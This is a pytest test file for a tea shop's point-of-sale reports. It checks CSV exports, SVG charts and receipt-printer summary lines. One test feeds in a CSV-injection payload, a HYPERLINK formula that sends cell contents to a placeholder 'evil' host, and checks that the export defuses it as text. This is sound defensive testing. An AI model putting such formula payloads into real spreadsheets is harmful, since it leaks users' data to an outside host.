"""What leaves the box: CSV per section, the SVG charts and the printed summary."""

import csv
import io
import xml.etree.ElementTree as ET

import pytest

import reportshop
from appliance.errors import NotFound
from appliance.reports.export import SECTIONS, section_csv
from appliance.reports.printout import summary_lines
from webui.office.charts import bar_chart, hbar_chart

SVG = "{http://www.w3.org/2000/svg}"


@pytest.fixture
def report(shop):
    r = reportshop.build(shop)["reports"]
    return r.build(r.period("2026-11-25", "2026-11-27"))


def rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")          # the BOM Excel needs for UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_days_csv_has_decimal_amounts_per_shop_local_day(report):
    got = rows(section_csv(report, "days"))
    assert got[0] == ["Day", "Orders", "Sales", "Refunds", "Net sales", "Cost of goods",
                      "Gross profit", "Margin %"]
    assert got[1:] == [
        ["2026-11-25", "2", "171.00", "0.00", "171.00", "95.00", "76.00", "44.4"],
        ["2026-11-26", "2", "151.00", "68.00", "83.00", "30.00", "53.00", "63.9"],
        ["2026-11-27", "1", "68.00", "0.00", "68.00", "40.00", "28.00", "41.2"]]


def test_tenders_and_products_csv(report):
    tenders = rows(section_csv(report, "tenders"))
    assert tenders[1] == ["Cash", "3", "237.00", "1", "68.00", "169.00"]
    assert [r[0] for r in tenders[2:]] == ["Card", "WeChat Pay"]
    products = rows(section_csv(report, "products"))
    assert products[1][:6] == ["西湖龙井", "", "4", "1", "3", "272.00"]


def test_every_section_exports_and_an_unknown_one_is_refused(report):
    for section in SECTIONS:
        assert len(rows(section_csv(report, section))) >= 2, section
    summary = rows(section_csv(report, "summary"))
    assert dict(zip(*summary))["Net sales"] == "322.00"
    with pytest.raises(NotFound):
        section_csv(report, "secrets")


def test_text_a_spreadsheet_would_run_is_defused_and_numbers_stay_numbers(report):
    """A refund reason typed at the till reaches Excel as text, never as a formula."""
    [reason] = report["refund_reasons"]
    evil = {**report, "refund_reasons": [
        {**reason, "reason": '=HYPERLINK("http://evil/?"&A1,"x")'},
        {**reason, "reason": "@SUM(A1)"}]}
    got = rows(section_csv(evil, "refund_reasons"))
    assert [r[0] for r in got[1:]] == ["'=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'@SUM(A1)"]
    assert rows(section_csv(report, "days"))[2][3] == "68.00"
    losing = {**report, "summary": {**report["summary"], "gross_profit": -4000}}
    assert dict(zip(*rows(section_csv(losing, "summary"))))["Gross profit"] == "-40.00"


def test_bar_chart_is_svg_with_bars_in_proportion():
    svg = ET.fromstring(str(bar_chart([("10", 3000, "30.00"), ("11", 1500, "15.00"),
                                       ("12", 0, "0.00")], "Net sales by hour")))
    assert svg.tag == SVG + "svg" and svg.get("role") == "img"
    assert svg.find(SVG + "title").text == "Net sales by hour"
    bars = svg.findall(SVG + "rect")
    heights = [float(b.get("height")) for b in bars]
    assert heights[0] == pytest.approx(2 * heights[1], abs=0.2) and heights[2] == 0
    assert bars[0].find(SVG + "title").text == "10: 30.00"
    assert "viewBox" in svg.attrib and svg.get("width") == "100%"


def test_negative_bars_hang_below_the_zero_line():
    svg = ET.fromstring(str(bar_chart([("a", 100, "1"), ("b", -100, "-1")], "t")))
    up, down = svg.findall(SVG + "rect")
    assert float(up.get("y")) + float(up.get("height")) == pytest.approx(float(down.get("y")))


def test_hbar_chart_ranks_with_labels_and_escapes_text():
    svg = ET.fromstring(str(hbar_chart([("绿茶 <special>", 800, "8.00"), ("茶杯", 200, "2.00")],
                                       "By category")))
    widths = [float(b.get("width")) for b in svg.findall(SVG + "rect")]
    assert widths[0] == pytest.approx(4 * widths[1], abs=0.2)
    texts = [t.text for t in svg.iter(SVG + "text")]
    assert "8.00" in texts and "2.00" in texts
    assert svg.find(SVG + "rect/" + SVG + "title").text == "绿茶 <special>: 8.00"


def test_printed_summary_lines(report):
    lines = summary_lines("龙井茶庄", report, 32, "2026-11-28 09:00", "老板")
    text = [ln.text for ln in lines]
    assert lines[0].text == "龙井茶庄" and lines[0].double
    assert all(len(t) <= 32 or any(ord(c) > 0x2E80 for c in t) for t in text)
    assert "Period" + " " * (32 - 6 - 23) + "2026-11-25 ~ 2026-11-27" in text
    assert "Net sales" + " " * (32 - 9 - 8) + "￥322.00" in text
    assert "Refunds" + " " * (32 - 7 - 11) + "1 / ￥68.00" in text
    assert "Margin %" + " " * (32 - 8 - 5) + "48.8%" in text
    assert "Cash" + " " * (32 - 4 - 8) + "￥169.00" in text     # ￥ takes two columns
    assert "西湖龙井" in text and "  x3" + " " * (32 - 4 - 8) + "￥204.00" in text
    assert not any("¥" in t for t in text)       # U+00A5 never reaches the paper
